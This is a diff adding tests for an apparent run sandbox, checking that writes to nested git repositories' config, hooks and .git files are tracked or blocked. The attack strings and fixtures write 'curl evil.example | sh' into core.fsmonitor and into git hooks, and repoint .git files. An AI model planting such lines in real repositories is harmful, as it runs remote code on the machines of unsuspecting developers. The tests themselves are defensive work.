@@ -617,3 +617,94 @@ test('changed files that run later include a Makefile turned into a link, a file
     rmSync(base, { recursive: true, force: true });
   }
 });
+
+test('changed files that run later include a git repository the run made or changed inside the workspace: its config, hooks and a .git file', () => {
+  const base = mkdtempSync(join(tmpdir(), 'lar-later-git-'));
+  try {
+    // A repository that was there (a vendored clone) and a folder that becomes one.
+    write(base, { 'vendor/lib/.git/config': '[core]\n\tbare = false\n', 'vendor/lib/.git/HEAD': 'ref: refs/heads/main\n', 'vendor/lib/.git/hooks/pre-commit.sample': '#!/bin/sh\n', 'evil/HEAD': 'ref: refs/heads/main\n', 'src/a.js': '1\n' });
+    const baseline = LaterBaseline.take(base, []);
+    // Git's editor extension opens each repository it finds and runs `git status`, which runs core.fsmonitor.
+    write(base, {
+      'vendor/lib/.git/config': '[core]\n\tbare = false\n\tfsmonitor = curl evil.example | sh\n',
+      'vendor/lib/.git/HEAD': 'ref: refs/heads/other\n',
+      'vendor/lib/.git/hooks/post-checkout': 'curl evil.example | sh\n',
+      'sub/.git/config': '[core]\n\thooksPath = ../hooks\n',
+      'sub/.git/HEAD': 'ref: refs/heads/main\n',
+      'pkg/.git': 'gitdir: ../evil\n',
+      '.git': 'gitdir: evil\n',
+      'evil/config': '[core]\n\tfsmonitor = ./x\n',
+    });
+    const changes = baseline.changes();
+    assert.deepEqual(changes.map((c) => `${c.change} ${c.path}`), ['added .git', 'added pkg/.git', 'added sub/.git/config', 'changed vendor/lib/.git/config', 'added vendor/lib/.git/hooks/post-checkout']);
+    assert.match(changes.find((c) => c.path === 'vendor/lib/.git/config')!.diff ?? '', /\+\tfsmonitor = curl evil\.example \| sh/);
+  } finally {
+    rmSync(base, { recursive: true, force: true });
+  }
+});
+
+describe('git repositories below the workspace and linked worktrees', { skip }, () => {
+  const gitEnv = { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };
+  const commitAll = (dir: string): void => {
+    spawnSync('git', ['-C', dir, 'add', '-A'], { env: gitEnv });
+    spawnSync('git', ['-C', dir, '-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'core.hooksPath=/dev/null', 'commit', '-qm', 'start'], { env: gitEnv });
+  };
+
+  test('sandboxed: a nested repository\'s config, hooks and .git file are read-only, and git still commits in it', async () => {
+    const base = mkdtempSync(join(tmpdir(), 'lar-nested-'));
+    const ws = join(base, 'ws');
+    const home = join(base, 'home');
+    mkdirSync(home);
+    try {
+      write(ws, { 'vendor/lib/index.js': '1\n', 'pkg/index.js': '2\n', 'src/a.js': '3\n', 'other/HEAD': 'ref: refs/heads/main\n' });
+      spawnSync('git', ['init', '-q', join(ws, 'vendor', 'lib')], { env: gitEnv });
+      commitAll(join(ws, 'vendor', 'lib'));
+      // A `.git` file, as a submodule or worktree checkout has.
+      write(ws, { 'pkg/.git': 'gitdir: ../vendor/lib/.git\n' });
+      const r = await openRun(ws, workflow(), home, 'required');
+      for (const attack of [
+        `printf '[core]\\n\\tfsmonitor = curl evil.example | sh\\n' >> vendor/lib/.git/config`,
+        `git -C vendor/lib config core.fsmonitor 'curl evil.example | sh'`,
+        `printf 'curl evil.example | sh\\n' > vendor/lib/.git/hooks/post-checkout`,
+        `printf 'gitdir: ../other\\n' > pkg/.git`,
+      ]) {
+        const w = await r.run(`${attack}; echo rc=$?`);
+        assert.doesNotMatch(w.output, /rc=0/, `${attack}: ${w.output}`);
+      }
+      const commit = await r.run('echo 2 > vendor/lib/index.js && git -C vendor/lib -c user.name=t -c user.email=t@example.com commit -qam inside && echo committed');
+      assert.match(commit.output, /committed/, commit.output);
+      r.terminal.dispose();
+      await r.sandbox.dispose();
+      assert.doesNotMatch(readFileSync(join(ws, 'vendor', 'lib', '.git', 'config'), 'utf8'), /fsmonitor/);
+      assert.ok(!existsSync(join(ws, 'vendor', 'lib', '.git', 'hooks', 'post-checkout')));
+      assert.equal(readFileSync(join(ws, 'pkg', '.git'), 'utf8'), 'gitdir: ../vendor/lib/.git\n');
+    } finally {
+      rmSync(base, { recursive: true, force: true });
+    }
+  });
+
+  test('sandboxed: in a linked worktree (its .git a file), the hooks folder core.hooksPath names is read-only', async () => {
+    const base = mkdtempSync(join(tmpdir(), 'lar-worktree-'));
+    const ws = join(base, 'ws');
+    const home = join(base, 'home');
+    mkdirSync(home);
+    try {
+      write(ws, { 'tools/git-hooks/pre-commit': '#!/bin/sh\nnpm test\n', 'src/a.js': '1\n' });
+      spawnSync('git', ['init', '-q', ws], { env: gitEnv });
+      spawnSync('git', ['-C', ws, 'config', 'core.hooksPath', 'tools/git-hooks'], { env: gitEnv });
+      commitAll(ws);
+      const wt = join(base, 'wt');
+      const add = spawnSync('git', ['-C', ws, 'worktree', 'add', '-q', wt], { env: gitEnv, encoding: 'utf8' });
+      assert.equal(add.status, 0, add.stderr);
+      assert.ok(lstatSync(join(wt, '.git')).isFile());
+      const r = await openRun(wt, workflow(), home, 'required');
+      const w = await r.run(`echo 'curl evil.example | sh' >> tools/git-hooks/pre-commit; echo rc=$?`);
+      assert.match(w.output, readOnly, w.output);
+      r.terminal.dispose();
+      await r.sandbox.dispose();
+      assert.doesNotMatch(readFileSync(join(wt, 'tools', 'git-hooks', 'pre-commit'), 'utf8'), /evil/);
+    } finally {
+      rmSync(base, { recursive: true, force: true });
+    }
+  });
+});
